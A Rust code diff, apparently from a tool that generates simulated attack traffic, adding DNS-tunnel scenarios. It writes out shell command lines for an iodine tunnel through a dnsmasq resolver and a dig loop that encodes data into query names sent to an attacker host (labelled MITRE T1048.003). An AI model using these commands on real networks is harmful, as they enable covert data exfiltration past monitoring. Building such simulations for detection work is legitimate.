@@ -262,8 +262,7 @@ pub(super) const KINDS: &[Kind] = &[
             |rng, to| {
                 let tunnel = Iodine::new(rng);
                 let (length, pause) = (rng.within(32..=900), rng.within(30..=900));
-                // Beside the host's own server for names, at an address of its own; numbered by whom it serves.
-                let at = Ipv4Addr::new(192, 0, 2, super::SWEPT[0] + to.attacker.octets()[3] % 10);
+                let at = beside(to);
                 Steps {
                     serve: Some(shell(format!("exec {}", tunnel.server(at)))),
                     side: Side::Attacker,
@@ -276,6 +275,60 @@ pub(super) const KINDS: &[Kind] = &[
             },
         )
     }),
+    quiet(Kind {
+        least: 60,
+        ..kind(
+            "dns tunnel, by a resolver",
+            "dns_tunnel",
+            &["iodine", "iodined", "dnsmasq"],
+            3,
+            |rng, to| {
+                let tunnel = Iodine::new(rng);
+                let (length, pause) = (rng.within(32..=900), rng.within(30..=900));
+                let at = beside(to);
+                // The tool asks its own host, which asks each question anew from a port of its own.
+                let resolver = Ipv4Addr::LOCALHOST;
+                Steps {
+                    serve: Some(shell(format!("exec {}", tunnel.server(at)))),
+                    side: Side::Attacker,
+                    line: shell(format!(
+                        "dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= \
+                         --cache-size=0 --bind-interfaces --listen-address={resolver} --server=/{TUNNEL}/{at} & \
+                         sleep 1; {} & sleep 3; ping -q -i 0.{pause:03} -s {length} {}",
+                        tunnel.client(resolver),
+                        tunnel.inside()
+                    )),
+                }
+            },
+        )
+    }),
+    quiet(kind(
+        "a file in names",
+        "dns_tunnel",
+        &["dig", "dnsmasq", "shuf"],
+        4,
+        |rng, to| {
+            home(
+                format!(
+                    "exec dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= \
+                     --local-ttl=0 --address=/{TUNNEL}/{}",
+                    to.attacker
+                ),
+                names(rng, to.attacker),
+            )
+        },
+    )),
+    quiet(kind(
+        "a file in names, from outside",
+        "dns_tunnel",
+        &["dig", "dnsmasq", "shuf"],
+        4,
+        |rng, to| Steps {
+            serve: None,
+            side: Side::Attacker,
+            line: shell(names(rng, to.target)),
+        },
+    )),
     quiet(Kind {
         least: 60,
         ..kind(
@@ -443,6 +496,21 @@ fn ask(rng: &mut Rng, to: Scope, every: u64, jitter: u64, v6: bool) -> Steps {
     home(format!("exec busybox httpd -f -p {host}:{port} -h {{www}}"), script)
 }
 
+/// Questions whose names carry something (MITRE ATT&CK T1048.003), some from each port.
+fn names(rng: &mut Rng, at: Ipv4Addr) -> String {
+    let [short, long] = [rng.within(8..=30), rng.within(31..=100)];
+    let (together, label) = (rng.within(1..=6), rng.within(24..=62));
+    let pauses = [rng.within(20..=900), rng.within(20..=900)];
+    format!(
+        "while :; do set --; for n in $(seq $(shuf -n 1 -i 1-{together})); do \
+         set -- \"$@\" $(head -c $(shuf -n 1 -i {short}-{long}) /dev/urandom | od -An -v -tx1 | tr -d ' \\n' | \
+         fold -w {label} | paste -sd .).{TUNNEL}; done; \
+         dig @{at} -b 0.0.0.0#$(shuf -n 1 -i 1024-65000) +short +tries=1 +time=1 \"$@\" > /dev/null; \
+         sleep $(shuf -n 1 -e 0.{:03} 0.{:03}); done",
+        pauses[0], pauses[1]
+    )
+}
+
 /// An iodine tunnel's settings.
 struct Iodine {
     record: &'static str,
@@ -481,6 +549,12 @@ impl Iodine {
             self.record, self.lazy, self.wait
         )
     }
+}
+
+/// Where a tunnel's end listens at the protected host: beside the host's own server for names, at an address of its own,
+/// numbered by whom it serves.
+fn beside(to: Scope) -> Ipv4Addr {
+    Ipv4Addr::new(192, 0, 2, super::SWEPT[0] + to.attacker.octets()[3] % 10)
 }
 
 /// A tunnel of the infected host's, and what goes through it to its other end.
